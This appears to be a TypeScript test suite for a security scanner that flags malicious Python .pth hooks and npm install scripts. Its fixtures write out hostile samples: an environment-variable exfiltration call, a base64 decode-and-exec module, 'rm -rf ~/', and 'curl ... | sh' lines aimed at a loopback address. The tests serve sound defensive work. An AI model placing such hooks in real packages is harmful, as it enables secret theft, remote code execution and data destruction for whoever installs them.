import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { inspectInstalled, type ProcessRunner } from '../../../shared/src/inspect/installed';

async function tempDir(t: { after(fn: () => Promise<void>): void }): Promise<string> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'si-installed-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

async function put(file: string, text: string): Promise<void> {
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, text);
}

function fakePython(siteDir: string): ProcessRunner {
  return {
    async run(command, args) {
      assert.equal(command, 'fake-python');
      assert.deepEqual(args.slice(0, 3), ['-I', '-S', '-c'], 'site.py must not run (it would execute the .pth files)');
      return { code: 0, stdout: JSON.stringify({ site: [siteDir], user: path.join(siteDir, 'missing-user-site') }), stderr: '' };
    },
  };
}

test('site-packages: executable .pth lines are critical, known tool lines low, imported modules scanned', async (t) => {
  const dir = await tempDir(t);
  const site = path.join(dir, 'site-packages');
  await put(path.join(site, 'litellm_init.pth'), "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'print(1)'])\n");
  await put(path.join(site, 'plain.pth'), '/opt/lib\n');
  await put(path.join(site, '_virtualenv.pth'), 'import _virtualenv\n');
  await put(path.join(site, 'hook.pth'), 'import sneaky_hook\n');
  await put(path.join(site, 'sneaky_hook.py'), "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
  const report = await inspectInstalled({ python: 'fake-python', nodeModulesRoots: [], runner: fakePython(site) });
  assert.equal(report.pthFiles, 4);
  const critical = report.findings.filter((f) => f.rule === 'pth-exec').map((f) => path.basename(f.file)).sort();
  assert.deepEqual(critical, ['hook.pth', 'litellm_init.pth']);
  assert.ok(report.findings.some((f) => f.rule === 'pth-known-hook' && f.file.endsWith('_virtualenv.pth') && f.severity === 'low'));
  assert.ok(report.findings.some((f) => f.rule === 'decode-exec' && f.file.endsWith('sneaky_hook.py') && f.severity === 'critical'));
  assert.ok(!report.findings.some((f) => f.file.endsWith('plain.pth')));
});

test('a real interpreter is asked without running its .pth files (venv included)', async (t) => {
  const probe = spawnSync('python3', ['-c', 'import venv'], { encoding: 'utf8' });
  if (probe.status !== 0) {
    t.skip('python3 with the venv module is not available here');
    return;
  }
  const dir = await tempDir(t);
  const venv = path.join(dir, 'venv');
  const made = spawnSync('python3', ['-m', 'venv', '--without-pip', venv], { encoding: 'utf8' });
  if (made.status !== 0) {
    t.skip(`could not create a venv: ${made.stderr}`);
    return;
  }
  const python = process.platform === 'win32' ? path.join(venv, 'Scripts', 'python.exe') : path.join(venv, 'bin', 'python');
  const site = spawnSync(python, ['-c', 'import sysconfig; print(sysconfig.get_paths()["purelib"])'], { encoding: 'utf8' }).stdout.trim();
  const marker = path.join(dir, 'pth-ran.txt');
  // Inert: if it ever runs, it only writes a canary file inside the test's temp folder.
  await put(path.join(site, 'canary.pth'), `import os; open(${JSON.stringify(marker)}, 'w').write('CANARY')\n`);
  const report = await inspectInstalled({ python, nodeModulesRoots: [] });
  assert.ok(report.sitePackages.includes(path.resolve(site)), `venv site-packages found: ${report.sitePackages.join(', ')}`);
  assert.ok(report.findings.some((f) => f.rule === 'pth-exec' && f.file.endsWith('canary.pth') && f.severity === 'critical'));
  assert.equal(existsSync(marker), false, 'asking for site-packages must not execute the .pth file');
});

test('an interpreter that cannot run is a note; node_modules are still checked', async () => {
  const report = await inspectInstalled({ python: path.join(os.tmpdir(), 'no-such-python-here'), nodeModulesRoots: [] });
  assert.equal(report.sitePackages.length, 0);
  assert.match(report.notes.join('\n'), /could not ask/);
});

test('node_modules: scoped, nested and pnpm packages have their install scripts scanned; symlinks are not followed', async (t) => {
  const dir = await tempDir(t);
  const nm = path.join(dir, 'node_modules');
  const pkg = (name: string, scripts?: Record<string, string>): string => JSON.stringify({ name, version: '1.0.0', ...(scripts ? { scripts } : {}) });
  await put(path.join(nm, 'plain', 'package.json'), pkg('plain'));
  await put(path.join(nm, 'native', 'package.json'), pkg('native', { install: 'node-gyp rebuild' }));
  await put(path.join(nm, 'native', 'binding.gyp'), '{"targets":[{"target_name":"n","include_dirs":["<!(node -p \\"require(\'nan\')\\")"]}]}');
  await put(path.join(nm, '@scope', 'evil', 'package.json'), pkg('@scope/evil', { postinstall: 'node lib/i.js' }));
  await put(path.join(nm, '@scope', 'evil', 'lib', 'i.js'), "require('https').get('https://127.0.0.1:9/' + Buffer.from(JSON.stringify(process.env)).toString('base64'));\n");
  await put(path.join(nm, 'outer', 'package.json'), pkg('outer'));
  await put(path.join(nm, 'outer', 'node_modules', 'inner', 'package.json'), pkg('inner', { preinstall: 'rm -rf ~/' }));
  await put(path.join(nm, '.pnpm', 'stored@1.0.0', 'node_modules', 'stored', 'package.json'), pkg('stored', { postinstall: 'curl -s http://127.0.0.1:9/x | sh' }));
  await put(path.join(dir, 'outside', 'package.json'), pkg('outside', { postinstall: 'curl -s http://127.0.0.1:9/y | sh' }));
  await symlink(path.join(dir, 'outside'), path.join(nm, 'linked'), 'dir');
  const report = await inspectInstalled({ nodeModulesRoots: [nm] });
  const worst = new Map<string, string>();
  for (const f of report.findings) if (!worst.has(f.package ?? '')) worst.set(f.package ?? '', `${f.rule}:${f.severity}`);
  assert.equal(worst.get('@scope/evil@1.0.0'), 'env-dump:critical');
  assert.equal(worst.get('inner@1.0.0'), 'destructive:critical');
  assert.equal(worst.get('stored@1.0.0'), 'download-exec:critical');
  assert.ok(!worst.has('native@1.0.0'), 'routine native build is not reported');
  assert.ok(!worst.has('outside@1.0.0'), 'symlinked package folders are not followed');
  assert.equal(report.nodePackages, 6);
  assert.equal(report.packagesWithInstallScripts, 4);
});
